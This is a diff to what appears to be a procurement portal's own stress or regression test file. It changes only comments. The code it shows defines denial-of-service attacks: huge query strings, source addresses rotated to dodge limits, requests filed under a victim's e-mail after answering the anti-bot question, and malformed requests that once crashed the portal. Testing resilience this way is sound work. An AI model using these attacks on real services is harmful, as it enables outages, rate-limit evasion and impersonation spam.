@@ -9,7 +9,7 @@ import { typed } from '../../solicitar/typed'
 export const victim = 'vitima@example.com'
 
 type Target = { url: string; idLicitacao: number }
-/** How many at once, how many milliseconds apart, and one time of it: what the portal answered. */
+/** `together`: how many at once. `pause`: milliseconds between two. `once` attacks once and returns the response. */
 export type Attack = {
   name: string
   together: number
@@ -23,7 +23,7 @@ const { nome: nomeRazaoSocial, cpf: cpfCnpj, ...rest } = typed
 const pedido = { ...rest, nomeRazaoSocial, cpfCnpj }
 const callOf = (idLicitacao: number) => `${writingV1}/licitacoes/${idLicitacao}/esclarecimentoImpugnacao`
 
-/** The longest pages there are, each time another, from two machines. */
+/** Requests for the longest pages, each time at another address, from two machines. */
 export const heavyPages: Attack[] = [
   { localAddress: '127.0.1.2', campaign: `&utm_source=${'%22'.repeat(2300)}` },
   { localAddress: '127.0.1.3', campaign: '' },
@@ -35,7 +35,7 @@ export const heavyPages: Attack[] = [
     ask(url, `${list}?size=100&page=1&conteudo=e&v=${time}${campaign}`, { localAddress }),
 }))
 
-/** What was once enough to take the portal down, from machines of their own. */
+/** Attacks that once took the portal down, each from a machine of its own. */
 export const attacks: Attack[] = [
   {
     name: 'endereços longos',
@@ -61,7 +61,7 @@ export const attacks: Attack[] = [
   { name: 'pedidos tortos', together: 2, pause: 20, once: sendJunk },
 ]
 
-/** A request in the name of a victim, proved as a person's, each from another network. */
+/** Files a request with a victim's e-mail and a right answer to the question, each time from another network. */
 async function bombard({ url, idLicitacao }: Target, time: number) {
   const localAddress = `127.0.${2 + (Math.floor(time / 250) % 10)}.${1 + (time % 250)}`
   const question = await ask(url, `${readonlyV1}/pergunta`, { localAddress })
@@ -72,7 +72,7 @@ async function bombard({ url, idLicitacao }: Target, time: number) {
   return ask(url, callOf(idLicitacao), { method: 'POST', headers: json, body, localAddress })
 }
 
-/** What is a mistake of whoever asks, and was a failure of the portal's. */
+/** Sends wrong requests that the portal once answered with a failure of its own. */
 function sendJunk({ url, idLicitacao }: Target, time: number) {
   const form = hrefOf(paths.solicitar(idLicitacao))
   const urlencoded = { 'Content-Type': 'application/x-www-form-urlencoded' }
